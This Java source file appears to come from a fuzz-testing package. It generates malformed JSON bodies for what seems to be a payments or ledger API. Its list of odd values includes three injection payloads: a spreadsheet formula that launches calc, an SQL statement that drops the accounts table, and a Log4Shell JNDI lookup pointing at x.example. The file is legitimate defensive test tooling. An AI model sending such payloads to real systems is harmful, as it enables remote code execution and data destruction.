package io.penstock.chaos.fuzz;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.random.RandomGenerator;

/** Bodies that differ from sound ones in a place or two. */
final class OddBodies {
  /** JSON as it stands in the body. */
  static final List<String> VALUES =
      List.of(
          "null",
          "true",
          "\"\"",
          "\" \"",
          "0",
          "-1",
          "-0",
          "1.0",
          "1.5",
          "1e2",
          "1e400",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "99999999999999999999999999999999",
          "\"12\"",
          "\" 12\"",
          "\"+12\"",
          "\"0012\"",
          "\"\\u0663\\u0664\"",
          "\"NaN\"",
          "\"\\u0000\"",
          "\"a\\u0000b\"",
          "\"\\ud800\"",
          "\"\\udc00\\ud800\"",
          "\"\\u202egnp\"",
          "\"\\ud83d\\udcb8\"",
          "\"e\\u0301\"",
          "\"" + "i".repeat(64) + "\"",
          "\"" + "i".repeat(65) + "\"",
          "\"" + "long ".repeat(5_000) + "\"",
          "\".\"",
          "\"..\"",
          "\"::\"",
          "\"a::hold\"",
          "\":a\"",
          "\"a:\"",
          "\"a/b\"",
          "\"%2e%2e\"",
          "\"world:USD\"",
          "\"world:usd\"",
          "\"world:XXX\"",
          "\"psp:stripe:USD\"",
          "\"fees:USD\"",
          "\"suspense:USD\"",
          "\"usd\"",
          "\"USD \"",
          "\"BGN\"",
          "\"4242 4242 4242 4242\"",
          "\"5105.1051-0510/5100\"",
          "\"=cmd|'/c calc'!A1\"",
          "\"'; drop table accounts; --\"",
          "\"${jndi:ldap://x.example/a}\"",
          "\"0000-00-00T00:00:00Z\"",
          "\"+1000000000-01-01T00:00:00Z\"",
          "\"wait=30\"",
          "[]",
          "{}",
          "[[[[]]]]",
          "[null]",
          "{\"a\":{\"a\":{\"a\":null}}}",
          "{\"type\":\"wallet\"}");

  private static final String HOLE = "\"@hole@\"";

  private OddBodies() {}

  /** One member has an odd value, is gone, is there twice, or is one too many. */
  static byte[] oddMember(JsonNode sound, RandomGenerator random) {
    JsonNode body = sound.deepCopy();
    List<ObjectNode> objects = new ArrayList<>();
    collect(body, objects);
    if (objects.isEmpty()) {
      return odd(random).getBytes(UTF_8);
    }
    ObjectNode object = objects.get(random.nextInt(objects.size()));
    List<String> names = new ArrayList<>();
    object.fieldNames().forEachRemaining(names::add);
    String name = names.isEmpty() ? "amount" : names.get(random.nextInt(names.size()));
    switch (random.nextInt(10)) {
      case 0 -> object.remove(name);
      case 1 -> object.put("unknown_" + name, "x");
      case 2 -> {
        object.set(name + "_", object.path(name));
        object.remove(name);
      }
      case 3 -> object.put(name.isEmpty() ? "" : name.substring(1), 1);
      case 4 -> grow(object);
      case 5 -> {
        String text = object.toString();
        return text.equals("{}")
            ? "{\"a\":1,\"a\":2}".getBytes(UTF_8)
            : body.toString().replace(text, twice(text, object, name, random)).getBytes(UTF_8);
      }
      default -> {
        object.put(name, "@hole@");
        return body.toString().replace(HOLE, odd(random)).getBytes(UTF_8);
      }
    }
    return body.toString().getBytes(UTF_8);
  }

  /** Bytes that are hardly JSON any more. */
  static byte[] oddBytes(byte[] sound, RandomGenerator random) {
    String text = new String(sound, UTF_8);
    return switch (random.nextInt(13)) {
      case 0 -> Arrays.copyOf(sound, random.nextInt(sound.length + 1));
      case 1 -> flipped(sound, random);
      case 2 -> with(sound, random.nextInt(sound.length + 1), (byte) 0xC0, (byte) 0x80);
      case 3 -> with(sound, 0, (byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
      case 4 -> text.getBytes(UTF_16);
      case 5 -> (text + text).getBytes(UTF_8);
      case 6 -> (text + "garbage").getBytes(UTF_8);
      case 7 -> "[".repeat(random.nextInt(1, 30_000)).getBytes(UTF_8);
      case 8 -> "{\"a\":".repeat(random.nextInt(1, 3_000)).getBytes(UTF_8);
      case 9 -> new byte[0];
      case 10 -> " \n\t ".getBytes(UTF_8);
      case 11 -> text.replace('"', '\'').getBytes(UTF_8);
      default -> with(sound, random.nextInt(sound.length + 1), (byte) random.nextInt(256));
    };
  }

  private static String odd(RandomGenerator random) {
    return VALUES.get(random.nextInt(VALUES.size()));
  }

  private static void grow(ObjectNode object) {
    ObjectNode notes = object.putObject("metadata");
    for (int i = 0; i < 17; i++) {
      notes.put("n" + i, "v");
    }
  }

  /** The same member once more, with another value or the same. */
  private static String twice(String text, ObjectNode object, String name, RandomGenerator random) {
    String value = random.nextBoolean() ? odd(random) : object.path(name).toString();
    return text.substring(0, text.length() - 1)
        + (object.isEmpty() ? "" : ",")
        + "\""
        + name
        + "\":"
        + (value.isEmpty() ? "1" : value)
        + "}";
  }

  private static byte[] flipped(byte[] sound, RandomGenerator random) {
    byte[] bytes = sound.clone();
    for (int i = random.nextInt(1, 4); i > 0 && bytes.length > 0; i--) {
      bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
    }
    return bytes;
  }

  private static byte[] with(byte[] bytes, int at, byte... more) {
    byte[] whole = Arrays.copyOf(bytes, bytes.length + more.length);
    System.arraycopy(bytes, at, whole, at + more.length, bytes.length - at);
    System.arraycopy(more, 0, whole, at, more.length);
    return whole;
  }

  private static void collect(JsonNode node, List<ObjectNode> objects) {
    switch (node) {
      case ObjectNode object -> {
        objects.add(object);
        object.forEach(child -> collect(child, objects));
      }
      case ArrayNode array -> array.forEach(child -> collect(child, objects));
      default -> {
        // No object in it.
      }
    }
  }
}
